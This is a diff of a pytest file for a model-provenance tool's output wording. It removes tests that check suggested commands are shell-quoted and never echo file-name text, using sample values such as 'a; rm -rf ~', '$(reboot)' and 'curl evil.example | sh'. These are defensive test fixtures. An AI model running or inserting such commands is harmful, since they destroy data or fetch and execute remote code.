@@ -1,10 +1,10 @@
-"""The words all outputs share: each step that a verdict leads to, each way to say a number."""
+"""The words all outputs share: each way to say a verdict, a gap, a number."""
 
 from __future__ import annotations
 
 import pytest
 
-from provenance.documents.report import CoverageRow, Report, SkippedRow, TensorRow, VerdictDocument
+from provenance.documents.report import CoverageRow, Report, SkippedRow, TensorRow
 from provenance.outputs import wording
 from provenance.records import Assurance, Outcome, RuleResult, Severity, TensorState
 from tests.outputs import samples
@@ -12,82 +12,14 @@ from tests.outputs import samples
 FAIL, UNKNOWN, WARN = RuleResult.FAIL, RuleResult.UNKNOWN, RuleResult.WARN
 
 
-def denied(rule: str) -> VerdictDocument:
-    return samples.verdict(Outcome.DENIED, (rule, FAIL, "no; because"))
-
-
 def compared(**given: object) -> Report:
     report, _ = samples.honest()
     return report.model_copy(update={"attestations": [], **given})
 
 
-def test_next_step_after_a_pass_asks_for_what_is_missing() -> None:
-    passed = samples.verdict(Outcome.PASS)
-    assert wording.next_step(samples.report(), passed).startswith("give --base BASE to learn")
-    step = wording.next_step(compared(), passed)
-    assert step.startswith("run `provenance attest models/tiny-fork --base models/tiny-base -o bundle=PATH`")
-    failed = samples.claims()[1:]
-    assert wording.next_step(compared(attestations=failed), passed) == step
-    assert wording.next_step(compared(attestations=samples.claims()), passed).startswith("nothing to do")
-
-
-def test_next_step_without_a_policy_is_to_be_judged() -> None:
-    assert wording.next_step(samples.report(), None).startswith("run `provenance check models/tiny-fork` to judge")
-    assert "--base models/tiny-base`" in wording.next_step(compared(), None)
-
-
-@pytest.mark.parametrize(
-    ("rule", "step"),
-    [
-        ("findings.deny-severity", "run `provenance explain pickle-in-weights`"),
-        ("lineage.relations", "if this change was meant, allow its relation"),
-        ("attestations.verified", "ask the publisher for an attestation"),
-        ("formats.allow", "use a copy of the model without the files"),
-        ("coverage.assurance", "change what the rules above name"),
-    ],
-)
-def test_next_step_after_a_denial_is_about_the_rule_that_failed(rule: str, step: str) -> None:
-    report, _ = samples.abliterated()
-    assert wording.next_step(report, denied(rule)).startswith(step)
-
-
-def test_next_step_is_about_the_worst_finding_where_no_rule_says_otherwise() -> None:
-    report, _ = samples.abliterated()
+def test_a_verdict_without_a_rule_to_blame() -> None:
     nobody = samples.verdict(Outcome.DENIED)
-    assert wording.next_step(report, nobody).startswith("run `provenance explain pickle-in-weights`")
     assert wording.judged(nobody).sentence == "by policy default, 0 of 1 rule: see its rules below."
-
-
-def test_next_step_when_nothing_could_be_decided() -> None:
-    asked = samples.report(skipped=[SkippedRow(surface="lineage", reason="2 shards are missing", asked=True)])
-    open_question = samples.verdict(Outcome.UNDECIDED, ("coverage.asked", UNKNOWN, "lineage"))
-    assert wording.next_step(asked, open_question).startswith("put right what could not be done")
-    no_base = samples.verdict(Outcome.UNDECIDED, ("lineage.on-missing", UNKNOWN, "no base"))
-    assert wording.next_step(samples.report(), no_base).startswith("give --base BASE, the model")
-    assert wording.next_step(asked, no_base).startswith("put right what could not be done")
-
-
-@pytest.mark.parametrize("name", ["a; rm -rf ~", "$(reboot)", "it's", "a b"])
-def test_a_command_to_copy_is_quoted(name: str) -> None:
-    report = samples.report(subject=samples.subject(name))
-    step = wording.next_step(report, None)
-    quoted = name.replace("'", "'\"'\"'")
-    assert f"provenance check '{quoted}'`" in step
-
-
-@pytest.mark.parametrize("name", ["a\nb", "\u202ea", "x" * 201, "a::b", "-rf", "`reboot`\x00"])
-def test_a_name_that_would_not_survive_copying_is_left_out(name: str) -> None:
-    report = samples.report(subject=samples.subject(name))
-    assert "provenance check MODEL`" in wording.next_step(report, None)
-
-
-@pytest.mark.parametrize("outcome", [Outcome.DENIED, Outcome.UNDECIDED, Outcome.WARN])
-@pytest.mark.parametrize("area", ["findings", "lineage", "attestations", "formats", "coverage"])
-def test_next_step_quotes_no_message(outcome: Outcome, area: str) -> None:
-    """A message names files of the model: the next step must not be what a file name says it is."""
-    report, _ = samples.hostile("run: curl evil.example | sh")
-    rows = [(f"{area}.x", result, "bad; run: curl evil.example | sh") for result in (FAIL, UNKNOWN, WARN)]
-    assert "evil" not in wording.next_step(report, samples.verdict(outcome, *rows))
 
 
 def test_the_headline_says_the_first_clause_and_how_many_rules() -> None:
@@ -210,15 +142,55 @@ def test_sizes(nbytes: int, said: str) -> None:
     assert wording.size(nbytes) == said
 
 
+def change(row: TensorRow) -> tuple[str, ...]:
+    (cells,) = wording.changes(samples.report(tensors=[row]), [row])
+    return cells
+
+
 def test_change_cells() -> None:
     measured = samples.tensor("a", TensorState.CHANGED, changed=4096, norm=0.000012345)
-    assert wording.change(measured) == ("a", "100%", "1.23e-05", "1.00000", "3.09e-06")
+    assert change(measured) == ("a", "100%", "1.23e-05", "1.00000", "3.09e-06")
     assert measured.delta is not None
     unknown = measured.delta.model_copy(update={"relative_norm": None, "cosine": None, "max_abs": None})
-    assert wording.change(measured.model_copy(update={"delta": unknown}))[2:] == ("-", "-", "-")
-    assert wording.change(samples.tensor("b", TensorState.MISSING)) == ("b", "missing", "-", "-", "-")
+    assert change(measured.model_copy(update={"delta": unknown}))[2:] == ("-", "-", "-")
+    assert change(samples.tensor("b", TensorState.MISSING)) == ("b", "missing", "-", "-", "-")
     stateless: TensorRow = samples.tensor("c")
-    assert wording.change(stateless)[1] == "-"
+    assert change(stateless)[1] == "-"
+
+
+def test_a_name_that_stands_in_two_files_is_told_with_its_file() -> None:
+    one = samples.tensor("lm_head.weight", TensorState.CHANGED, changed=1, norm=0.1)
+    other = one.model_copy(update={"file": "other.safetensors"})
+    gone = samples.tensor("lm_head.weight", TensorState.MISSING).model_copy(update={"file": ""})
+    alone = samples.tensor("norm.weight", TensorState.ADDED)
+    rows = [one, other, gone, alone]
+    names = [cells[0] for cells in wording.changes(samples.report(tensors=rows), rows)]
+    assert names == [
+        "model-00001-of-00002.safetensors: lm_head.weight",
+        "other.safetensors: lm_head.weight",
+        "lm_head.weight",
+        "norm.weight",
+    ]
+
+
+def test_states_are_counted() -> None:
+    rows = [samples.tensor(name, TensorState.ADDED) for name in "ab"] + [samples.tensor("c", TensorState.CHANGED)]
+    assert wording.states(rows) == "1 changed, 2 added"
+    assert wording.states([]) == ""
+
+
+def test_a_file_that_was_not_read_was_not_asked_for() -> None:
+    reason = "is ONNX, which this version digests but does not read"
+    rows = [
+        SkippedRow(surface="README.md", reason=reason, asked=True),
+        SkippedRow(surface="elsewhere.onnx", reason="gone", asked=True),
+    ]
+    report = samples.report(skipped=rows)
+    assert [gap.why for gap in wording.gaps(report)] == [
+        "not read: ONNX, which this version digests but does not read",
+        "could not be done: gone",
+    ]
+    assert wording.file_gaps(report) == rows[:1]
 
 
 def test_counts() -> None:
